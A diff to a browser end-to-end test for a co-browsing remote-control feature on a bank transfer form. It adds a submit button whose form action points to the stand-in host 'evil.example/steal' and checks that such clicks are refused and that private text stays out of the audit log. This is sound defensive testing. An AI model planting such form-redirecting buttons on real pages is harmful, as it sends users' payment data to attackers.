@@ -72,7 +72,26 @@ test("remote control fills the transfer form and submits it, the page's own code
     dl.href = "/demo/statement.pdf";
     dl.download = "statement.pdf";
     dl.textContent = "Download statement";
-    document.querySelector(".page-head .container").append(file, dl);
+    // Buttons that would send the form elsewhere, and a control whose text is partly private.
+    const away = document.createElement("button");
+    away.id = "away";
+    away.type = "submit";
+    away.setAttribute("formaction", "https://evil.example/steal");
+    away.textContent = "Pay elsewhere";
+    const popup = document.createElement("button");
+    popup.id = "popup";
+    popup.type = "submit";
+    popup.setAttribute("formtarget", "_blank");
+    popup.textContent = "Pay in a new window";
+    document.querySelector("#transfer .actions").append(away, popup);
+    const balance = document.createElement("div");
+    balance.id = "balance";
+    balance.setAttribute("role", "button");
+    balance.style.padding = "12px";
+    balance.innerHTML = 'Balance <span data-sightline-private>SECRET 9999</span>';
+    balance.addEventListener("click", () => (balance.dataset.clicked = "1"));
+    document.querySelector(".page-head .container").append(file, dl, balance);
+    document.querySelector("#transfer").addEventListener("submit", () => (window.__picked += 100));
   });
   await waitFor(async () => (await inMirror(agent, "#statement")) !== null, "the additions in the mirror");
   // The visitor fills in what only they may: the IBAN and their PIN.
@@ -91,6 +110,9 @@ test("remote control fills the transfer form and submits it, the page's own code
   await clickInMirror(agent, "#statement");
   await waitFor(async () => /would leave the page/.test(await toast()), "the agent told a download leaves the page");
   assert.equal(await visitor.evaluate(() => window.__picked), 0, "neither was clicked on the visitor's page");
+  // A control whose text is partly private: clicked, but named without it.
+  await clickInMirror(agent, "#balance");
+  await waitFor(async () => (await visitor.locator("#balance").getAttribute("data-clicked")) === "1", "the balance control clicked");
 
   await clickInMirror(agent, "#payee");
   await waitFor(async () => (await activeId(visitor)) === "payee", "the payee field focused on the visitor's page");
@@ -117,6 +139,7 @@ test("remote control fills the transfer form and submits it, the page's own code
   assert.notEqual(await activeId(visitor), "iban", "the private field was not touched");
   assert.equal(await visitor.locator("#iban").inputValue(), "DE89 3704 0044 0532 0130 00");
 
+  // (Checked below, once the agent has scrolled down to the buttons.)
   // The button is below the fold of the visitor's window: the agent scrolls
   // their page with the wheel over the mirror.
   const frameBox = await agent.locator("[data-testid=cobrowse-mirror] iframe").boundingBox();
@@ -124,11 +147,21 @@ test("remote control fills the transfer form and submits it, the page's own code
   await agent.mouse.wheel(0, 600);
   await waitFor(async () => (await visitor.evaluate(() => window.scrollY)) > 0, "the visitor's page scrolled");
   await waitFor(async () => {
-    const at = await inMirror(agent, "button[type=submit]");
+    const at = await inMirror(agent, "#popup");
     const box = await agent.locator("[data-testid=cobrowse-mirror] iframe").boundingBox();
     return !!at && at.y < box.y + box.height - 4;
   }, "the button in view in the mirror");
-  await clickInMirror(agent, "button[type=submit]");
+  // Buttons that would send the form to another site or a new window: refused.
+  for (const id of ["#away", "#popup"]) {
+    await agent.evaluate(() => {
+      const t = document.querySelector("[data-testid=toast]");
+      if (t) t.textContent = "";
+    });
+    await clickInMirror(agent, id);
+    await waitFor(async () => /would leave the page/.test(await toast()), `${id} refused`);
+  }
+  assert.equal(await visitor.evaluate(() => window.__picked), 0, "the form was not sent anywhere");
+  await clickInMirror(agent, "#transfer button.btn-primary");
   const done = visitor.locator("#done");
   await done.waitFor({ state: "visible" });
   // What the page's handlers saw (their own state, from input and change events).
@@ -142,7 +175,7 @@ test("remote control fills the transfer form and submits it, the page's own code
     return expected.every((re) => texts.some((t) => re.test(t)));
   }, "every remote action in the transcript");
   const texts = await rows.allTextContents();
-  assert.ok(!texts.some((t) => /Alex Johnson|125|DE89/.test(t)), `no typed text in the audit: ${JSON.stringify(texts)}`);
+  assert.ok(!texts.some((t) => /Alex Johnson|125|DE89|SECRET/.test(t)), `no typed or private text in the audit: ${JSON.stringify(texts)}`);
   const grants = await agent.locator("[data-testid=system][data-kind=grant]").allTextContents();
   assert.ok(grants.some((t) => /asked for remote control/.test(t)) && grants.some((t) => /allowed remote control/.test(t)), JSON.stringify(grants));
 
